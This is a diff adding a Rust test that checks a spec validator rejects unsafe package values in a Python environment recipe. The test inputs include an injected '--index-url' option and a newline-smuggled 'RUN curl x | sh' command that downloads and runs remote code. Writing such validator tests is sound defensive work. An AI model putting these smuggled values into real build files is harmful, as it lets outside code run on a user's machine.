@@ -298,3 +298,14 @@ fn a_missing_path_suggests_the_closest_existing_one() {
     assert!(out.contains("did you mean `a_test.patch`?"), "{out}");
     assert!(out.contains("did you mean `repos/a`?"), "{out}");
 }
+
+#[test]
+fn e0705_recipe_values_that_cannot_be_one_safe_word() {
+    let spec = SPEC.replace(
+        "  env python\n",
+        "  env python {\n    packages [\"pytest<9\", \"--index-url=http://mirror.invalid\", \"numpy\\nRUN curl x | sh\", \"\"]\n  }\n",
+    );
+    let (c, out) = check(&spec, &[], Some(B_AT_BASE));
+    insta::assert_snapshot!("e0705", out);
+    assert_eq!(codes(&c), vec![Code::ParamUnsafe; 3], "{out}");
+}
